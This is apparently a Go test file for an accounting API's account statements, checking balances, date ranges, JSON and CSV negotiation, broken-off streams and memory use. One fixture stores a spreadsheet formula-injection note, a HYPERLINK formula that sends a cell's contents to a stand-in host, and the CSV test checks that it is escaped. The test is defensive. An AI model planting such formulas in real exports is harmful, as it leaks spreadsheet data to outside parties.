package api_test

import (
	"bufio"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"runtime"
	"runtime/metrics"
	"slices"
	"strings"
	"testing"

	"github.com/google/uuid"

	"waybill/api"
	"waybill/db/dbtest"
)

// bookedAccount makes an account with a deposit, a charge whose note is like a formula, and another.
func (s *server) bookedAccount() (path string) {
	s.t.Helper()
	path = s.do(s.admin, "POST", "/v1/accounts", object{"name": "Lab", "currency": "EUR"}).fresh(201).
		header.Get("Location")
	s.do(s.admin, "POST", path+"/deposits", object{"id": newID(), "amount_cents": 500}).fresh(201)
	s.do(s.admin, "POST", path+"/charges", object{"id": newID(), "amount_cents": 120,
		"note": `=HYPERLINK("http://x.example?"&A1,"a, b")`}).fresh(201)
	s.do(s.admin, "POST", path+"/charges", object{"id": newID(), "amount_cents": 80, "note": "Fee"}).fresh(201)
	return path
}

func (a *answer) statement() (st api.AccountStatement) {
	a.t.Helper()
	if err := json.Unmarshal(a.body, &st); err != nil {
		a.t.Fatalf("%v: %s", err, a)
	}
	return st
}

func TestAStatementHasTheBalanceAfterEachEntry(t *testing.T) {
	t.Parallel()
	s := start(t)
	path := s.bookedAccount()
	all := s.do(s.staff, "GET", path+"/statement", nil).want(200)
	st := all.statement()
	if len(st.Items) != 3 || st.From != nil || st.OpeningCents != 0 || st.ClosingCents != 300 || st.Currency != "EUR" ||
		st.Items[0].BalanceCents != 500 || st.Items[1].BalanceCents != 380 || st.Items[1].DeltaCents != -120 ||
		st.Items[2].BalanceCents != 300 || *st.Items[2].Note != "Fee" || all.header.Get("Vary") != "Accept" {
		t.Errorf("got %s", all)
	}
	second, third := st.Items[1].CreatedAt.Format("2006-01-02T15:04:05.999999999Z07:00"),
		st.Items[2].CreatedAt.Format("2006-01-02T15:04:05.999999999Z07:00")
	part := s.do(s.dispatcher, "GET", path+"/statement?from="+second+"&to="+third, nil).want(200).statement()
	if len(part.Items) != 1 || part.OpeningCents != 500 || part.ClosingCents != 380 || part.From == nil {
		t.Errorf("from the second to the third: %+v", part)
	}
	none := s.do(s.admin, "GET", path+"/statement?from="+third+"&to=2999-01-01T00:00:00Z", nil).want(200).statement()
	if len(none.Items) != 1 || none.To.Year() == 2999 {
		t.Errorf("the end is not yet known at %v", none.To)
	}
	if empty := s.do(s.admin, "GET", path+"/statement?to=2000-01-01T00:00:00Z", nil).want(200).
		statement(); empty.Items == nil || len(empty.Items) != 0 || empty.ClosingCents != 0 {
		t.Errorf("before the first: %+v", empty)
	}
	for _, to := range []string{second, "2000-01-01T00:00:00Z"} {
		s.do(s.admin, "GET", path+"/statement?from="+second+"&to="+to, nil).refused(422, "validation_failed", "to")
	}
	s.do(s.admin, "GET", "/v1/accounts/"+newID().String()+"/statement", nil).refused(404, "not_found")
	s.do(s.hub, "GET", path+"/statement", nil).refused(403, "forbidden")
	if head := s.do(s.staff, "HEAD", path+"/statement", nil).want(200); len(head.body) > 0 {
		t.Errorf("HEAD has a body: %s", head)
	}
}

func TestAStatementIsATableOnRequest(t *testing.T) {
	t.Parallel()
	s := start(t)
	path := s.bookedAccount() + "/statement"
	table := s.do(s.staff, "GET", path, nil, "Accept", "text/csv").want(200)
	if got := table.header.Get("Content-Type"); got != "text/csv; charset=utf-8; header=present" {
		t.Errorf("it is %s", got)
	}
	if text := string(table.body); strings.Count(text, "\n") != 6 || strings.Count(text, "\r\n") != 6 {
		t.Errorf("lines end otherwise than with CRLF: %q", text)
	}
	rows, err := csv.NewReader(strings.NewReader(string(table.body))).ReadAll()
	if err != nil || len(rows) != 6 {
		t.Fatalf("%d rows: %v", len(rows), err)
	}
	for i, want := range []string{
		"created_at,kind,amount_cents,delta_cents,balance_cents,pickup_id,note",
		",opening,,,0,,", "deposit,500,500,500,,",
		`charge,120,-120,380,,'=HYPERLINK("http://x.example?"&A1,"a, b")`, "charge,80,-80,300,,Fee", "closing,,,300,,",
	} {
		got := strings.Join(rows[i], ",")
		if i > 1 {
			_, got, _ = strings.Cut(got, ",") // without the time
		}
		if got != want {
			t.Errorf("row %d is %s, want %s", i, got, want)
		}
	}
}

func TestAStatementIsInTheMediaTypeThatIsAccepted(t *testing.T) {
	t.Parallel()
	s := start(t)
	path := s.bookedAccount() + "/statement"
	for accept, want := range map[string]string{
		"": "application/json", "*/*": "application/json", "application/*;q=0.2, text/*": "text/csv",
		"text/csv;q=0.4, application/json;q=0.5": "application/json", "TEXT/CSV": "text/csv",
		"text/csv, */*;q=0.1": "text/csv", "text/html, text/csv;q=0.1": "text/csv",
		"application/json;q=0, */*": "text/csv", "*/*;q=0.1, text/csv;q=0": "application/json",
		"text/html": "", "application/json;q=0": "", "text/csv;q=0, text/*": "", "nonsense": "",
	} {
		var headers []string
		if accept != "" {
			headers = []string{"Accept", accept}
		}
		a := s.do(s.staff, "GET", path, nil, headers...)
		if want == "" {
			a.refused(406, "not_acceptable", "Accept")
		} else if got := a.want(200).header.Get("Content-Type"); !strings.HasPrefix(got, want) {
			t.Errorf("Accept %s gets %s, want %s", accept, got, want)
		}
	}
}

// ledger books many entries at once, with a note.
func (s *server) ledger(n int, note string) uuid.UUID {
	s.t.Helper()
	account := newID()
	s.exec("INSERT INTO accounts (tenant_id, id, name, currency, balance_cents, request_digest) "+
		"VALUES ($1, $2, 'Ledger', 'EUR', $3, '')", s.id, account, n)
	s.exec(`INSERT INTO ledger_entries (tenant_id, id, account_id, kind, amount_cents, note, actor_id, request_digest,
			created_at)
		SELECT $1, gen_random_uuid(), $2, 'deposit', 1, $4, $1, '',
			'2026-01-01'::timestamptz + n * interval '1 second'
		FROM generate_series(1, $3) AS n`, s.id, account, n, note)
	s.exec("ANALYZE ledger_entries") // as autovacuum would: it is off here
	return account
}

func (s *server) open(web *httptest.Server, account uuid.UUID, accept string) *http.Response {
	s.t.Helper()
	r, err := http.NewRequestWithContext(s.t.Context(), "GET",
		web.URL+"/v1/accounts/"+account.String()+"/statement", nil)
	s.must(err)
	r.Header.Set("Authorization", "Bearer "+s.staff.token)
	r.Header.Set("Accept", accept)
	response, err := web.Client().Do(r)
	s.must(err)
	s.t.Cleanup(func() { response.Body.Close() })
	return response
}

// A statement is read while it is sent: no connection and no lock is held for a client that receives slowly. If
// it cannot be read to its end, the client notices.
func TestAStatementThatBreaksOffIsNotTakenForAWholeOne(t *testing.T) {
	t.Parallel()
	for _, accept := range []string{"application/json", "text/csv"} {
		t.Run(accept, func(t *testing.T) {
			t.Parallel()
			s := start(t)
			web := httptest.NewServer(s.api)
			defer web.Close()
			response := s.open(web, s.ledger(60_000, strings.Repeat("note ", 60)), accept)
			first := make([]byte, 1000)
			_, err := io.ReadFull(response.Body, first)
			s.must(err)
			s.exec("ALTER TABLE ledger_entries RENAME TO ledger_entries_away") // nobody reads or locks it now
			rest, err := io.ReadAll(response.Body)
			if !errors.Is(err, io.ErrUnexpectedEOF) || strings.Contains(string(rest), "clos") {
				t.Errorf("it ends with %v after %d bytes", err, len(rest))
			}
			s.exec("ALTER TABLE ledger_entries_away RENAME TO ledger_entries")
		})
	}
}

// The server needs no more memory for the statement of a million entries than for a short one.
func TestALongStatementNeedsLittleMemory(t *testing.T) {
	dbtest.Thorough(t, "a ledger of a million entries")
	const entries = 1_000_000
	s := start(t)
	account := s.ledger(entries, "note")
	web := httptest.NewServer(s.api)
	defer web.Close()
	for _, accept := range []string{"application/json", "text/csv"} {
		before := liveMemory()
		var live []int64
		body := bufio.NewReaderSize(s.open(web, account, accept).Body, 1<<16)
		var size, at int64
		var tail []byte
		chunk := make([]byte, 1<<16)
		for {
			n, err := body.Read(chunk)
			size += int64(n)
			if tail = append(tail, chunk[:n]...); len(tail) > 100 {
				tail = append([]byte{}, tail[len(tail)-100:]...)
			}
			if size-at > 4<<20 {
				at = size
				live = append(live, liveMemory())
			}
			if err == io.EOF {
				break
			}
			s.must(err)
		}
		// The least of each half: what is collected from the start stays, what piles up is there in the second.
		half := len(live) / 2
		grown := max(slices.Min(live[:half]), slices.Min(live[half:])) - before
		if t.Logf("%s: %d MB, and %d KB more memory", accept, size>>20, grown>>10); grown > 16<<20 ||
			!strings.Contains(string(tail), "1000000") || !strings.Contains(string(tail), "clos") {
			t.Errorf("%d bytes more memory; it ends with %q", grown, tail)
		}
	}
}

// liveMemory collects garbage, and returns the memory of what is left, without what was allocated since. It does so
// twice: what a sender allocates while garbage is marked counts as live, and by the second time it waits for its
// reader.
func liveMemory() int64 {
	runtime.GC()
	runtime.GC()
	live := []metrics.Sample{{Name: "/gc/heap/live:bytes"}}
	metrics.Read(live)
	return int64(live[0].Value.Uint64())
}
